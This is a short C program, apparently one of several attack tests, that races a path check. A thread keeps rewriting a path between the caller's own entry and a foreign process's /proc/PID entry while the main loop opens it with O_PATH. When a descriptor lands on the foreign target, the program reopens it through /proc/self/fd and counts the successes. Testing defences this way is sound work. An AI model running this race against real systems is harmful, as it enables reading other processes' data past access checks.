/*
 * attack_race_proc OWN FOREIGN PID: wins O_PATH descriptors of FOREIGN by rewriting the path OWN
 * (equally long) while it is judged, and opens what they refer to through /proc/self/fd.
 */
#include <pthread.h>

#include "attack.h"

static char path[256];
static const char *texts[2];
static volatile int stop;

static void *flip(void *unused)
{
	volatile char *to = path;

	for (unsigned i = 0; !stop; i++) {
		const char *from = texts[i & 1];

		for (size_t at = 6; from[at] != '\0'; at++)
			to[at] = from[at];
		pause_a_little(i);
	}
	return unused;
}

int main(int argc, char **argv)
{
	int won = 0, opened = 0;
	double start = seconds_now();
	pthread_t thread;
	char wanted[64];

	if (argc != 4 || strlen(argv[1]) != strlen(argv[2]))
		return 2;
	texts[0] = argv[1];
	texts[1] = argv[2];
	(void)snprintf(wanted, sizeof wanted, "/proc/%s/", argv[3]);
	(void)strcpy(path, argv[1]);
	(void)pthread_create(&thread, NULL, flip, NULL);
	while (won < 5 && seconds_now() < start + 3) {
		int pin = open(path, O_PATH), fd;
		char name[64], leads_to[256] = "";

		(void)snprintf(name, sizeof name, "/proc/self/fd/%d", pin);
		if (pin >= 0 && readlink(name, leads_to, sizeof leads_to - 1) > 0 &&
			strncmp(leads_to, wanted, strlen(wanted)) == 0) {
			won++;
			fd = open(name, O_RDONLY);
			opened += fd >= 0;
			(void)close(fd);
		}
		(void)close(pin);
	}
	stop = 1;
	(void)printf("won by the race: %d\nopened of these: %d\n", won, opened);
	return 0;
}
